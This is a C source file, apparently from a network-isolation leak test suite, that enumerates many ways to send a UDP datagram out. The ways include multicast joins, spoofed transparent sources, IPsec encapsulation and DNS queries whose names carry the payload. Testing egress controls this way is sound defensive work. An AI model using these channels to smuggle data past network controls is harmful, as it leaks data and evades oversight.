/* Datagrams: every way to send one. */
#include "attacker.h"

#include <net/if.h>
#include <netinet/udp.h>

#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

static int datagram(int family) { return new_socket(family, SOCK_DGRAM, 0); }

static void udp4(void) { throw(datagram(AF_INET), TO4); }
static void udp6(void) { throw(datagram(AF_INET6), TO6); }
static void udp_mapped(void) { throw(datagram(AF_INET6), TO_MAPPED); }
/* An IPv4 address on an IPv6 socket, and an address that says no family. */
static void udp6_inet(void) { throw(datagram(AF_INET6), TO4); }

static void udp_unspec(void)
{
	to4.sin_family = AF_UNSPEC;
	throw(datagram(AF_INET), TO4);
}

static void connected(int fd, const void *address, socklen_t size)
{
	CHECK(connect(fd, address, size));
	CHECK(send(fd, payload, payload_size, 0));
	ended("sent");
}

static void udp4_connected(void) { connected(datagram(AF_INET), TO4); }
static void udp6_connected(void) { connected(datagram(AF_INET6), TO6); }
static void udp_mapped_connected(void) { connected(datagram(AF_INET6), TO_MAPPED); }

static void udp_write(void)
{
	int fd = datagram(AF_INET);
	CHECK(connect(fd, (void *)TO4));
	CHECK(write(fd, payload, payload_size));
	ended("sent");
}

static void udp_sendmmsg(void)
{
	struct iovec part = { payload, payload_size };
	struct mmsghdr messages[2] = { 0 };
	for (int i = 0; i < 2; i++)
		messages[i].msg_hdr = (struct msghdr){ .msg_name = &to4, .msg_namelen = sizeof to4,
						       .msg_iov = &part, .msg_iovlen = 1 };
	CHECK(sendmmsg(datagram(AF_INET), messages, 2, 0));
	ended("sent");
}

static void udp_zerocopy(void)
{
	int fd = datagram(AF_INET);
	option(fd, SOL_SOCKET, SO_ZEROCOPY, 1);
	CHECK(sendto(fd, payload, payload_size, MSG_ZEROCOPY, (void *)TO4));
	ended("sent");
}

static void udp_segments(void)
{
	uint16_t size = 8;
	throw_with(datagram(AF_INET), TO4, SOL_UDP, UDP_SEGMENT, &size, sizeof size);
}

/* First where datagrams may go, then elsewhere. */
static int connected_to_53(int family)
{
	int fd = datagram(family);
	struct sockaddr_in dns4 = to4;
	struct sockaddr_in6 dns6 = to6;
	dns4.sin_port = dns6.sin6_port = htons(53);
	if (family == AF_INET)
		CHECK(connect(fd, (void *)&dns4, sizeof dns4));
	else
		CHECK(connect(fd, (void *)&dns6, sizeof dns6));
	return fd;
}

static void udp_connected_53_other(void) { throw(connected_to_53(AF_INET), TO4); }
static void udp6_connected_53_other(void) { throw(connected_to_53(AF_INET6), TO6); }

static void udp_reconnect(void)
{
	int fd = connected_to_53(AF_INET);
	struct sockaddr nowhere = { .sa_family = AF_UNSPEC };
	connect(fd, &nowhere, sizeof nowhere);
	connected(fd, TO4);
}

static void udp_cork_other(void)
{
	int fd = datagram(AF_INET);
	struct sockaddr_in dns = to4;
	dns.sin_port = htons(53);
	CHECK(sendto(fd, payload, payload_size, MSG_MORE, (void *)&dns, sizeof dns));
	throw(fd, TO4);
}

static void udp_cork(void)
{
	int fd = datagram(AF_INET);
	CHECK(sendto(fd, payload, payload_size, MSG_MORE, (void *)TO4));
	throw(fd, TO4);
}

/* An IPv6 socket that becomes an IPv4 one. */
static void udp_addrform(void)
{
	int fd = datagram(AF_INET6);
	CHECK(connect(fd, (void *)TO_MAPPED));
	option(fd, IPPROTO_IPV6, IPV6_ADDRFORM, AF_INET);
	throw(fd, TO4);
}

static void broadcast(const char *address)
{
	int fd = datagram(AF_INET);
	option(fd, SOL_SOCKET, SO_BROADCAST, 1);
	to4.sin_addr.s_addr = inet_addr(address);
	throw(fd, TO4);
}

static void udp_broadcast(void) { broadcast("255.255.255.255"); }
static void udp_subnet_broadcast(void) { broadcast("192.0.2.255"); }

static void udp_multicast4(void)
{
	int fd = datagram(AF_INET);
	struct ip_mreqn by = { .imr_ifindex = if_nametoindex(interface) };
	CHECK(setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &by, sizeof by));
	to4.sin_addr.s_addr = inet_addr("239.1.2.3");
	throw(fd, TO4);
}

static void udp_multicast6(void)
{
	inet_pton(AF_INET6, "ff02::1234", &to6.sin6_addr);
	to6.sin6_scope_id = if_nametoindex(interface);
	throw(datagram(AF_INET6), TO6);
}

/* Joining a group makes the kernel tell all neighbours of it: the group's address is the message. */
static void join4(void)
{
	int fd = datagram(AF_INET);
	struct ip_mreqn group = { .imr_multiaddr = to4.sin_addr, .imr_ifindex = if_nametoindex(interface) };
	((uint8_t *)&group.imr_multiaddr)[0] = 239;
	CHECK(setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof group));
	usleep(300000);
	ended("joined");
}

static void join6(void)
{
	int fd = datagram(AF_INET6);
	struct ipv6_mreq group = { .ipv6mr_multiaddr = to6.sin6_addr, .ipv6mr_interface = if_nametoindex(interface) };
	group.ipv6mr_multiaddr.s6_addr[0] = 0xff;
	group.ipv6mr_multiaddr.s6_addr[1] = 0x15;
	CHECK(setsockopt(fd, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &group, sizeof group));
	usleep(300000);
	ended("joined");
}

static void join_any_family(void)
{
	int fd = datagram(AF_INET6);
	struct group_req join = { .gr_interface = if_nametoindex(interface) };
	struct sockaddr_in6 group = to6;
	group.sin6_addr.s6_addr[0] = 0xff;
	group.sin6_addr.s6_addr[1] = 0x15;
	memcpy(&join.gr_group, &group, sizeof group);
	CHECK(setsockopt(fd, IPPROTO_IPV6, MCAST_JOIN_GROUP, &join, sizeof join));
	usleep(300000);
	ended("joined");
}

static void udp_link_local(void)
{
	inet_pton(AF_INET6, "fe80::77", &to6.sin6_addr);
	to6.sin6_scope_id = if_nametoindex(interface);
	throw(datagram(AF_INET6), TO6);
}

/* The interface and the source are chosen for one datagram. */
static void udp4_pktinfo(void)
{
	struct in_pktinfo by = { .ipi_ifindex = if_nametoindex(interface), .ipi_spec_dst = own4 };
	throw_with(datagram(AF_INET), TO4, IPPROTO_IP, IP_PKTINFO, &by, sizeof by);
}

static void udp6_pktinfo(void)
{
	struct in6_pktinfo by = { .ipi6_ifindex = if_nametoindex(interface), .ipi6_addr = own6 };
	throw_with(datagram(AF_INET6), TO6, IPPROTO_IPV6, IPV6_PKTINFO, &by, sizeof by);
}

static void udp_device(void)
{
	int fd = datagram(AF_INET);
	CHECK(setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, interface, strlen(interface)));
	throw(fd, TO4);
}

static void udp_unicast_if(void)
{
	int fd = datagram(AF_INET);
	option(fd, IPPROTO_IP, IP_UNICAST_IF, htonl(if_nametoindex(interface)));
	throw(fd, TO4);
}

static void udp_transparent(void)
{
	int fd = datagram(AF_INET);
	option(fd, IPPROTO_IP, IP_TRANSPARENT, 1);
	struct sockaddr_in source = foreign();
	CHECK(bind(fd, (void *)&source, sizeof source));
	throw(fd, TO4);
}

/* Wrapped as IPsec does when there are address translators. */
static void udp_encapsulated(void)
{
	int fd = datagram(AF_INET);
	option(fd, IPPROTO_UDP, UDP_ENCAP, UDP_ENCAP_ESPINUDP);
	throw(fd, TO4);
}

static void to_port(int port)
{
	to4.sin_port = htons(port);
	to6.sin6_port = htons(port);
	to_mapped.sin6_port = htons(port);
}

static void udp_quic(void)
{
	to_port(443);
	throw(datagram(AF_INET), TO4);
}

/* A question whose name carries the payload: a resolver that asks on would carry it out. */
static void question(int family, const void *address, socklen_t size)
{
	unsigned char query[96] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0 };
	int at = 12;
	query[at++] = payload_size;
	memcpy(query + at, payload, payload_size);
	at += payload_size;
	memcpy(query + at, "\7invalid\0\0\1\0\1", 13);
	at += 13;
	CHECK(sendto(datagram(family), query, at, 0, address, size));
	ended("sent");
}

static void dns4(void) { to_port(53); question(AF_INET, TO4); }
static void dns6(void) { to_port(53); question(AF_INET6, TO6); }
static void dns_mapped(void) { to_port(53); question(AF_INET6, TO_MAPPED); }
static void dns6_inet(void) { to_port(53); question(AF_INET6, TO4); }

static void dns_pktinfo(void)
{
	to_port(53);
	udp4_pktinfo();
}

static void dns_device(void)
{
	to_port(53);
	udp_device();
}

static void dns_tcp(void)
{
	to_port(53);
	converse(new_socket(AF_INET, SOCK_STREAM, 0), TO4);
}

const struct attempt udp_attempts[] = {
	{ "udp4", udp4 },
	{ "udp6", udp6 },
	{ "udp-mapped", udp_mapped },
	{ "udp6-inet", udp6_inet },
	{ "udp-unspec", udp_unspec },
	{ "udp4-connected", udp4_connected },
	{ "udp6-connected", udp6_connected },
	{ "udp-mapped-connected", udp_mapped_connected },
	{ "udp-write", udp_write },
	{ "udp-sendmmsg", udp_sendmmsg },
	{ "udp-zerocopy", udp_zerocopy },
	{ "udp-segments", udp_segments },
	{ "udp-connected-53-other", udp_connected_53_other },
	{ "udp6-connected-53-other", udp6_connected_53_other },
	{ "udp-reconnect", udp_reconnect },
	{ "udp-cork", udp_cork },
	{ "udp-cork-other", udp_cork_other },
	{ "udp-addrform", udp_addrform },
	{ "udp-broadcast", udp_broadcast },
	{ "udp-subnet-broadcast", udp_subnet_broadcast },
	{ "udp-multicast4", udp_multicast4 },
	{ "udp-multicast6", udp_multicast6 },
	{ "udp-link-local", udp_link_local },
	{ "join4", join4 },
	{ "join6", join6 },
	{ "join-any-family", join_any_family },
	{ "udp4-pktinfo", udp4_pktinfo },
	{ "udp6-pktinfo", udp6_pktinfo },
	{ "udp-device", udp_device },
	{ "udp-unicast-if", udp_unicast_if },
	{ "udp-transparent", udp_transparent },
	{ "udp-encapsulated", udp_encapsulated },
	{ "udp-quic", udp_quic },
	{ "dns4", dns4 },
	{ "dns6", dns6 },
	{ "dns-mapped", dns_mapped },
	{ "dns6-inet", dns6_inet },
	{ "dns-pktinfo", dns_pktinfo },
	{ "dns-device", dns_device },
	{ "dns-tcp", dns_tcp },
	{ 0 },
};
